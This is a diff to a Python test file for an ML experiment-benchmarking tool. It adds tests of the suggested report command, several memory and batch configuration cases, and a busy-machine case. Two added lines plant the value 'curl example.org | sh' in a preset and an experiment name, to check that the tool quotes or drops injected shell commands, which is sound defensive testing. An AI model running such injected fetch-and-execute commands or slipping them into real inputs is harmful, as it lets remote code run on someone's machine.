@@ -204,6 +204,10 @@ def test_the_command_that_judges_a_search_holds_to_what_it_was_held_to() -> None
     found = planted.searched(replace(planted.SPACE, only=held, preset="full"))
     words = " --network tiny --preset full --batch-size 8 --only precision=bf16,fp32 --only batch=8 --seeds 8"
     assert question.answer(study(found)).finding.way_out.endswith(words)
+    hostile = planted.searched(replace(planted.SPACE, preset="quick; curl example.org | sh #"))
+    assert "curl" not in question.answer(study(hostile)).finding.way_out
+    named = make.sets({"bf16": (NARROW, 1.6)}, experiment="amp; curl example.org | sh #")
+    assert " 'amp; curl example.org | sh #' " in answer(study(named)).finding.way_out
 
 
 def test_a_search_whose_sets_were_all_disturbed_has_no_answer() -> None:
@@ -228,8 +232,15 @@ def test_the_command_of_an_open_page_is_about_what_it_shows() -> None:
     gpus = make.on(make.GPUS, make.sets({"2 ranks": (two, 1.0)}, experiment="multi_gpu", **hidden))
     workers = make.sets({"1": (replace(one, loader_workers=1), 1.0)}, experiment="workers", baseline=one, count=2)
     large = amp(count=2, base=wide)
+    empty = replace(study(), output_dir=Path("/mine"))
+    assert answer(empty).finding.way_out == "ddpm-lab report --output-dir /mine"
     for records, more in ((peers, ""), (gpus, ""), ([*amp(count=2), *workers], ""), (large, " -p image_size 64")):
         assert answer(study(records)).finding.way_out == f"ddpm-lab report{more}"
+
+
+def test_a_search_whose_winner_was_measured_on_a_busy_machine_has_no_answer_yet() -> None:
+    busy = make.sets({"bf16": (NARROW, 1.5)}, experiment=RECOMMENDATION, crowded=range(6))
+    assert answer(study(busy)).finding.status == stats.TOO_FEW
 
 
 def test_a_search_goes_on_after_a_set_that_others_disturbed() -> None:
@@ -321,6 +332,11 @@ FUSED_KEPT, NCHW = RunConfig(freed_memory="kept", channels_last=False), RunConfi
 KEPT_FUSED = [*memory(), *make.sets({"NCHW": (NCHW, 1.1)}, experiment="bottleneck", family="NCHW")]
 TOGETHER_THEN = make.sets({"both": (FUSED_KEPT, 1.2)}, experiment=RECOMMENDATION, family="tiny, together")
 """Measured before bf16 was known to be faster still."""
+PAIR, LARGE = RunConfig(world_size=2), RunConfig(global_batch_size=128)
+SMALL_BUCKETS = replace(PAIR, exchange=ExchangeConfig(bucket_mb=5))
+HOOK = make.sets({"buckets": (SMALL_BUCKETS, 1.6)}, baseline=PAIR, experiment="exchange", family="2 ranks")
+KEPT_AT_128 = replace(LARGE, freed_memory="kept")
+ALONE_AT_128 = make.sets({"kept": (KEPT_AT_128, 2.0)}, baseline=LARGE, experiment="bottleneck", family="batch 128")
 LOADER = make.sets(
     {"2 workers": (RunConfig(loader="files", loader_workers=2), 3.0)},
     baseline=RunConfig(loader="files"),
@@ -347,6 +363,10 @@ SEED = RunConfig(network="seed")
         (study(amp(), memory(), together(0.9), harm=0.0), "bf16", findings.ANSWERED, ""),
         (study(amp(), memory(), together(1.2), harm=0.0), "bf16", findings.ANSWERED, ""),  # alone it is faster still
         (study(amp(1.7), KEPT_FUSED, TOGETHER_THEN, harm=0.0), "bf16", findings.ANSWERED, ""),
+        # Then what it yields to is what could have joined it, ...
+        (study(amp(), memory(), LOADER, together(1.2), harm=0.0), "bf16", findings.ANSWERED, ""),
+        # ... which a change of other ranks or at another batch could not.
+        (study(amp(), memory(), HOOK, ALONE_AT_128, together(1.35), harm=0.0), ALL, findings.ANSWERED, ""),
         # What is faster beside a slow baseline of its own is no reason to leave a combination.
         (study(amp(), memory(), LOADER, together(1.35), harm=0.0), ALL, findings.ANSWERED, ""),
         (study(amp(), memory(), harm=0.05), "freed memory kept", findings.ANSWERED, ""),
